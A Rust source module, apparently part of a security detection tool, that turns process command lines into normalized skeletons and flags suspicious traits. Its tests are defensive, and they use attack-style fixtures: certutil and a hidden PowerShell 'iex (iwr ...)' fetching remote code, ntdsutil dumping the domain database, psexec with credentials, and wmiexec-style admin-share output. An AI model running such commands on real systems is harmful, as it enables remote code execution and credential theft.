//! The shape of a command line: what stays the same when the same thing is done again.
//!
//! Encodings are undone, the line is cut into commands and words, and each word is kept (a verb, a flag, a name
//! of the system) or replaced by its class (`<url>`, `<temp>.dll`, `<n>`). Two runs of one script give one
//! skeleton; what stands out of a skeleton by itself is noted as [`Traits`].

mod classes;
mod mask;
mod undo;
mod words;

use blackrod_model::process::Traits;

use super::table::Table;
pub(super) use classes::place_of;
pub(super) use words::stem;

/// The longest skeleton that is kept, in bytes.
const MAX_SKELETON: usize = 300;

/// The most words of a line that are looked at.
const MAX_WORDS: usize = 96;

/// The most programs and targets that are kept of a line.
const MAX_LIST: usize = 8;

/// How deep commands within quotes are followed.
const MAX_DEPTH: usize = 3;

/// What a command line comes to.
#[derive(Clone, Debug, Default, PartialEq)]
pub(super) struct Shape {
    /// The line with everything that varies replaced by its class.
    pub(super) skeleton: String,
    /// The line in lower case with its encodings undone; decoded commands follow on lines of their own.
    pub(super) text: String,
    /// What is remarkable about it.
    pub(super) traits: Traits,
    /// What stands where a command stands, without `.exe`, in order, each once.
    pub(super) programs: Vec<String>,
    /// Hosts and addresses that it names.
    pub(super) targets: Vec<String>,
}

impl Shape {
    /// The shape of `command`, with the programs of `table` known.
    pub(super) fn of(command: &str, table: &Table) -> Self {
        let undone = undo::undo(command);
        let mut masker = mask::Masker::new(table, undone.traits);
        for line in undone.text.lines() {
            masker.line(line, 0);
        }
        let mut shape = masker.finish();
        shape.text = undone.text;
        shape
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(command: &str) -> Shape {
        Shape::of(command, Table::builtin())
    }

    #[test]
    fn what_varies_is_masked_and_what_is_done_stays() {
        for (first, second) in [
            (
                r"certutil.exe -urlcache -f http://203.0.113.9/x.exe C:\Windows\Temp\x.exe",
                r"certutil -URLCACHE -f https://files.example/y.exe C:\Windows\Temp\other.exe",
            ),
            ("net user anna /domain", "net.exe user ben /DOMAIN"),
            (
                r"msiexec /i C:\Users\anna\Downloads\a.msi /qn",
                r"msiexec.exe /i C:\Users\ben\Downloads\b.msi /qn",
            ),
            (
                r"backup.exe --job 2024-03-02 --id 7f3a9c1e77",
                r"backup.exe --job 2025-11-30 --id 00ffab3c12",
            ),
            ("tar -czf /tmp/a.tgz /home/ben", "tar -czf /tmp/b.tgz /home/anna"),
        ] {
            assert_eq!(shape(first).skeleton, shape(second).skeleton);
        }
        assert_ne!(
            shape("net user anna /domain").skeleton,
            shape("net group anna /domain").skeleton
        );
    }

    #[test]
    fn commands_inside_commands_are_found() {
        let line = r#"cmd.exe /c "wmic process call create "cmd.exe /c mkdir C:\Windows\Temp\tmp & ntdsutil \"ac i ntds\" ifm""#;
        let programs = shape(line).programs;
        for program in ["cmd", "wmic", "ntdsutil"] {
            assert!(
                programs.iter().any(|known| known == program),
                "{program} in {programs:?}"
            );
        }
        let wmiexec = shape(
            r#"cmd.exe /Q /c net group "domain admins" /dom 1> \\127.0.0.1\ADMIN$\__1684956600.123 2>&1"#,
        );
        assert!(
            wmiexec.traits.has(
                Traits::LOOPBACK_SHARE
                    .with(Traits::ADMIN_SHARE)
                    .with(Traits::TO_SHARE)
            )
        );
        assert_eq!(wmiexec.programs, ["cmd", "net"]);
    }

    #[test]
    fn traits_are_told() {
        for (line, expected) in [
            (
                "rundll32 x.dll,Run http://198.51.100.1/a",
                Traits::URL
                    .with(Traits::URL_ADDRESS)
                    .with(Traits::LIBRARY_ARGUMENT),
            ),
            (
                r"expand \\files\share\a.bat C:\Users\Public\a.bat",
                Traits::UNC
                    .with(Traits::PUBLIC_FOLDER)
                    .with(Traits::SCRIPT_ARGUMENT),
            ),
            (r"control.exe C:\x\a:evil.dll", Traits::STREAM),
            (
                "psexec.exe \\\\ws14 -u corp\\adm -p secret cmd",
                Traits::REMOTE.with(Traits::CREDENTIALS),
            ),
            ("wmic /node:\"10.0.0.5\" process list", Traits::REMOTE),
            (
                "powershell -w hidden -ep bypass -c \"iex (iwr http://a.example/x)\"",
                Traits::HIDDEN
                    .with(Traits::POLICY_BYPASS)
                    .with(Traits::SCRIPT_TEXT),
            ),
        ] {
            let traits = shape(line).traits;
            assert!(traits.has(expected), "{line}: {traits:?}");
        }
        assert!(
            !shape(r"reg query HKLM\Software\Vendor /v Version")
                .traits
                .any(Traits::STREAM.with(Traits::REMOTE))
        );
    }

    #[test]
    fn hostile_lines_end() {
        let deep = "cmd /c \"".repeat(4_000);
        let long = "a^".repeat(200_000);
        let odd = "%a:~%%:~,% '+' [char] [char]99999999999 $env:[ -e -enc %%%%^";
        for line in [
            deep.as_str(),
            long.as_str(),
            odd,
            "",
            "\"",
            "\\\\",
            "é\u{2013}enc ü",
        ] {
            let shape = shape(line);
            assert!(shape.skeleton.len() <= MAX_SKELETON + 8);
        }
    }
}
